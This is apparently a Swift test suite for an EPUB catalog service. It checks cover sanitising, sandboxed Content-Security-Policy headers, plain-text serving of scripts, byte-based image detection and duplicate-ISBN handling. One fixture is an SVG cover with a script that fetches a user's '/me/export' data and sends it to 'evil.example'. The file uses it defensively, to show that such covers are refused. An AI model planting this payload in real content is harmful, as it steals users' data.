import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import Shared
import TestSupport
import Testing
import ZIPFoundation

@testable import CatalogService

/// A publisher's file never runs as this origin: covers are raster images only, and every response of book content
/// is sandboxed (`ContentSecurity`).
extension CatalogServiceTests {
    /// A small valid EPUB 3 whose cover is `cover` (stored as `OPS/cover.<ext>` with the declared media type).
    func epub(
        title: String,
        cover: Data,
        coverPath: String,
        coverType: String,
        isbn: String? = nil,
        extras: [(path: String, data: Data, type: String)] = []
    ) throws -> URL {
        let url = blobs.appendingPathComponent("content-\(UUID().uuidString).epub")
        try FileManager.default.createDirectory(at: blobs, withIntermediateDirectories: true)
        let archive = try Archive(url: url, accessMode: .create)
        let chapter = Data(
            """
            <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title></head>
            <body><h1>One</h1><p>Call me reader.</p><script>fetch('/me/export')</script></body></html>
            """.utf8
        )
        let nav = Data(
            """
            <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head>
            <body><nav epub:type="toc"><ol><li><a href="chapter.xhtml">One</a></li></ol></nav></body></html>
            """.utf8
        )
        let opf = Data(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
            <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">\(isbn.map { "urn:isbn:\($0)" } ?? "urn:uuid:\(UUID().uuidString)")</dc:identifier>
            <dc:title>\(title)</dc:title><dc:language>en</dc:language><meta property="dcterms:modified">2026-01-01T00:00:00Z</meta></metadata>
            <manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
            <item id="c1" href="chapter.xhtml" media-type="application/xhtml+xml"/>
            <item id="cover" href="\(coverPath)" media-type="\(coverType)" properties="cover-image"/>
            \(extras.enumerated().map { #"<item id="extra\#($0.offset)" href="\#($0.element.path)" media-type="\#($0.element.type)"/>"# }.joined())</manifest>
            <spine><itemref idref="c1"/></spine></package>
            """.utf8
        )
        let container = Data(
            """
            <?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
            <rootfiles><rootfile full-path="OPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>
            """.utf8
        )
        let entries: [(String, Data, CompressionMethod)] =
            [
                ("mimetype", Data("application/epub+zip".utf8), .none), ("META-INF/container.xml", container, .deflate),
                ("OPS/book.opf", opf, .deflate), ("OPS/nav.xhtml", nav, .deflate), ("OPS/chapter.xhtml", chapter, .deflate),
                ("OPS/\(coverPath)", cover, .deflate),
            ] + extras.map { ("OPS/\($0.path)", $0.data, CompressionMethod.deflate) }
        for (path, data, method) in entries {
            try archive.addEntry(with: path, type: .file, uncompressedSize: Int64(data.count), compressionMethod: method) { position, size in
                data.subdata(in: Int(position)..<Int(position) + size)
            }
        }
        return url
    }

    static let scriptedSVG = Data(
        """
        <svg xmlns="http://www.w3.org/2000/svg" width="600" height="900"><rect width="600" height="900" fill="navy"/>
        <script>fetch('/me/export').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>
        """.utf8
    )

    @Test func aScriptBearingSVGCoverIsNeverStoredOrServed() async throws {
        let (app, _) = try await app()
        try await app.testRouter { client in
            let file = try epub(title: "Scripted Cover", cover: Self.scriptedSVG, coverPath: "cover.svg", coverType: "image/svg+xml")
            let (status, body) = try await ingest(client, file)
            #expect(status == .created)
            let id = try #require(body["id"] as? String)
            #expect((body["warnings"] as? [String])?.contains { $0.contains("not a JPEG, PNG, GIF or WebP") } == true, "\(body["warnings"] ?? "")")
            // The SVG is dropped; the book gets a drawn cover instead, a JPEG.
            #expect((body["book"] as? [String: Any])?["coverSource"] as? String == "generated")
            for uri in ["/books/\(id)/cover", "/books/\(id)/cover?size=thumbnail"] {
                try await client.execute(uri: uri, method: .get) { response in
                    #expect(response.status == .ok, "\(uri)")
                    #expect(response.headers[.contentType] == "image/jpeg")
                    #expect(RasterImage.type(of: Data(buffer: response.body)) == "image/jpeg")
                }
            }
            // An SVG that claims to be a JPEG is refused by its bytes.
            let disguised = try epub(title: "Disguised Cover", cover: Self.scriptedSVG, coverPath: "cover.jpg", coverType: "image/jpeg")
            let (_, second) = try await ingest(client, disguised)
            let other = try #require(second["id"] as? String)
            try await client.execute(uri: "/books/\(other)/cover", method: .get) { response in
                #expect(Data(buffer: response.body) != Self.scriptedSVG && RasterImage.type(of: Data(buffer: response.body)) == "image/jpeg")
            }
        }
    }

    @Test func bookContentIsServedSandboxedAndUnsniffed() async throws {
        let (app, _) = try await app()
        try await app.testRouter { client in
            let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 0, count: 64)
            let file = try epub(title: "Open Content", cover: png, coverPath: "cover.png", coverType: "image/png")
            let (status, body) = try await ingest(client, file, query: "?open_access=true")
            #expect(status == .created)
            let id = try #require(body["id"] as? String)
            for uri in ["/books/\(id)/publication/OPS/chapter.xhtml", "/books/\(id)/fulfill", "/books/\(id)/cover"] {
                try await client.execute(uri: uri, method: .get) { response in
                    #expect(response.status == .ok, "\(uri)")
                    let policy = response.headers[.contentSecurityPolicy] ?? ""
                    #expect(policy.contains("default-src 'none'") && policy.contains("sandbox"), "\(uri): \(policy)")
                    #expect(!policy.contains("script-src") || policy.contains("script-src 'none'"))
                    #expect(response.headers[.xContentTypeOptions] == "nosniff", "\(uri)")
                }
            }
        }
    }

    /// A book's scripts are served as plain text: with `nosniff`, no page of this origin could load one as a script.
    @Test func aBooksScriptsAreServedAsPlainText() {
        for type in ["application/javascript", "text/javascript; charset=utf-8", "Application/ECMAScript", "module", "application/wasm"] {
            #expect(ContentSecurity.servedType(type) == "text/plain; charset=utf-8", "\(type)")
        }
        for type in ["application/xhtml+xml", "text/css", "image/svg+xml", "font/woff2", "text/plain"] {
            #expect(ContentSecurity.servedType(type) == type)
        }
    }

    @Test func rasterImagesAreKnownByTheirBytes() {
        #expect(RasterImage.type(of: Data([0xFF, 0xD8, 0xFF, 0xE0])) == "image/jpeg")
        #expect(RasterImage.type(of: Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])) == "image/png")
        #expect(RasterImage.type(of: Data("GIF89a..".utf8)) == "image/gif")
        #expect(RasterImage.type(of: Data("RIFF\u{0}\u{0}\u{0}\u{0}WEBP".utf8)) == "image/webp")
        #expect(RasterImage.type(of: Self.scriptedSVG) == nil)
        #expect(RasterImage.type(of: Data("<html>".utf8)) == nil)
    }

    @Test func aFileWithAnExistingISBNReplacesItsBookOnlyWhenAsked() async throws {
        let (app, _) = try await app()
        try await app.testRouter { client in
            let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 0, count: 16)
            let first = try epub(title: "First Edition", cover: png, coverPath: "cover.png", coverType: "image/png", isbn: "9780306406157")
            let (status, body) = try await ingest(client, first)
            #expect(status == .created)
            let id = try #require(body["id"] as? String)
            let second = try epub(title: "Second Edition", cover: png, coverPath: "cover.png", coverType: "image/png", isbn: "978-0-306-40615-7")
            let (refused, problem) = try await ingest(client, second)
            #expect(refused == .conflict)
            #expect(problem["type"] as? String == Problem.typeBase + "isbn-exists")
            #expect((problem["detail"] as? String)?.contains(id) == true, "the 409 names the existing book")
            let unchanged = try await opds2(client, "/opds/books/\(id)")
            #expect((unchanged["metadata"] as? [String: Any])?["title"] as? String == "First Edition")
            let (replaced, edition) = try await ingest(client, second, query: "?replace=true")
            #expect(replaced == .ok && edition["outcome"] as? String == "new_edition" && edition["id"] as? String == id)
            #expect(((try await opds2(client, "/opds/books/\(id)"))["metadata"] as? [String: Any])?["title"] as? String == "Second Edition")
        }
    }
}
